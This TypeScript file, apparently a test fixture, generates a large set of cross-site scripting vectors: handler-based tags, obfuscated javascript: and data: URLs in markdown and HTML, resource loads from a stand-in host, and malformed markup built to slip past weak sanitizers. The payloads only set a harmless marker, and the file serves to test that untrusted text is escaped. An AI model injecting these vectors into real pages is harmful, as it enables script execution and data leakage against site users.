/** Texts that would run scripts or send requests if a page contained them unescaped; combined from parts. */

/** A call of this function, or a request to this host, shows that a vector worked. */
export const ELSEWHERE = 'elsewhere.example'
const CALL = `window.__ran=1`
const AWAY = `https://${ELSEWHERE}`

const HANDLERS = ['onerror', 'onload', 'onclick', 'onfocus', 'onmouseover', 'onanimationstart', 'ontoggle', 'onbegin']
const CARRIERS = [
  'img src=x',
  'image src=x',
  'svg',
  'video src=x',
  'audio src=x',
  'body',
  'input autofocus',
  'details open',
  'marquee',
]
const SPELLINGS: ((tag: string, handler: string) => string)[] = [
  (tag, handler) => `<${tag} ${handler}=${CALL}>`,
  (tag, handler) => `<${tag}/${handler}="${CALL}"//`,
  (tag, handler) => `<${tag.toUpperCase()} ${handler.toUpperCase()}='${CALL}'>`,
  (tag, handler) => `<${tag} ${handler}&#61;${CALL}>`,
  (tag, handler) => `<${tag}\n${handler}\t=\n"${CALL}">`,
]

/** Spellings of the `javascript:` scheme. */
const SCHEMES = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  'java\nscript:',
  '&#106;avascript:',
  '&#x6A;avascript&colon;',
  '\u0001javascript:',
  ' javascript:',
  'vbscript:',
  'data:text/html,<script>window.__ran=1</script>//',
  'data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19yYW49MTwvc2NyaXB0Pg==#',
  'view-source:javascript:',
]
const PLACES: ((address: string) => string)[] = [
  (address) => `[click](${address})`,
  (address) => `[click](<${address}>)`,
  (address) => `[click][1]\n\n[1]: ${address}`,
  (address) => `![picture](${address})`,
  (address) => `<${address}>`,
  (address) => `<a href="${address}">click</a>`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<form action="${address}"><button>click</button></form>`,
  (address) => `<object data="${address}"></object>`,
  (address) => `<svg><a xlink:href="${address}"><text>x</text></a></svg>`,
]

/** Sends a request when shown, without scripts. */
const CALLING = [
  `![picture](${AWAY}/a.png)`,
  `<img src="${AWAY}/b.png">`,
  `<img srcset="${AWAY}/c.png 1x">`,
  `<video poster="${AWAY}/d.png"></video>`,
  `<link rel=stylesheet href="${AWAY}/e.css">`,
  `<link rel=prefetch href="${AWAY}/f">`,
  `<style>@import url(${AWAY}/g.css);</style>`,
  `<style>body{background:url(${AWAY}/h.png)}</style>`,
  `<div style="background:url(${AWAY}/i.png)">x</div>`,
  `<table background="${AWAY}/j.png"><tr><td>x</td></tr></table>`,
  `<meta http-equiv=refresh content="0;url=${AWAY}/k">`,
  `<base href="${AWAY}/">`,
  `<iframe src="${AWAY}/l"></iframe>`,
  `<embed src="${AWAY}/m">`,
  `<input type=image src="${AWAY}/n.png">`,
  `<svg><image href="${AWAY}/o.png"/></svg>`,
  `<svg><use href="${AWAY}/p.svg#x"/></svg>`,
  `<picture><source srcset="${AWAY}/q.png"><img></picture>`,
]

/** Malformed markup that gets past weak sanitizers. */
const TWISTED = [
  `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  `<<script>${CALL};//<</script>`,
  `<script\u0000>${CALL}</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${CALL}>`,
  `<svg></p><style><a title="</style><img src=x onerror=${CALL}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${CALL}>`,
  `<template><script>${CALL}</script></template>`,
  `<textarea></textarea><script>${CALL}</script>`,
  `<title><img src=x onerror=${CALL}></title>`,
  `<!--><img src=x onerror=${CALL}>-->`,
  `<![CDATA[<img src=x onerror=${CALL}>]]>`,
  `<?xml version="1.0"?><script>${CALL}</script>`,
  `&lt;img src=x onerror=${CALL}&gt;`,
  `\`\`\`html\n</code></pre><img src=x onerror=${CALL}>\n\`\`\``,
  `| a |\n|---|\n| <img src=x onerror=${CALL}> |`,
  `> <svg onload=${CALL}>`,
  `- <svg onload=${CALL}>`,
  `[a](https://x.example "\\" onmouseover=${CALL} ")`,
  `![a"onerror="${CALL}](x)`,
  `<a href="https://x.example" onclick="${CALL}" style="position:fixed;inset:0" target=_top>x</a>`,
  `</article></main><script>${CALL}</script>`,
  `</script><script>${CALL}</script>`,
  `\u2028<script>${CALL}</script>`,
  `<div id=__reactRouterContext><script>${CALL}</script></div>`,
]

export const XSS_VECTORS: string[] = [
  ...CARRIERS.flatMap((tag) => HANDLERS.flatMap((handler) => SPELLINGS.map((spell) => spell(tag, handler)))),
  ...SCHEMES.flatMap((scheme) => PLACES.map((place) => place(`${scheme}${CALL}`))),
  ...['script', 'SCRIPT', 'scRipt type=module', 'script src=data:text/javascript,window.__ran=1'].map(
    (tag) => `<${tag}>${CALL}</${tag.split(' ')[0]}>`,
  ),
  ...CALLING,
  ...TWISTED,
]
